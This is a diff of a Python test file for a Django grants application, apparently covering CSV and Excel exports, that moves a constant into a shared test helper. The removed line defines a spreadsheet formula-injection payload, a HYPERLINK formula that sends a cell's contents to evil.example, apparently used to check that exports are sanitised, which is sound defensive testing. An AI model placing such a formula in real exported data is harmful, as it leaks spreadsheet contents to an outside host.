@@ -17,14 +17,13 @@ from tests.factories import (
     UserFactory,
     line,
 )
-from tests.list_exports import page_table, pounds, read_csv, read_xlsx
+from tests.list_exports import EVIL, page_table, pounds, read_csv, read_xlsx
 from vcsgrants.core.models import Role
 from vcsgrants.funding.services import agreements as agreement_services
 from vcsgrants.funding.services import payments as payment_services
 from vcsgrants.funding.services import programmes as programme_services
 
 pytestmark = pytest.mark.django_db
-EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Guidance")'
 
 
 @pytest.fixture
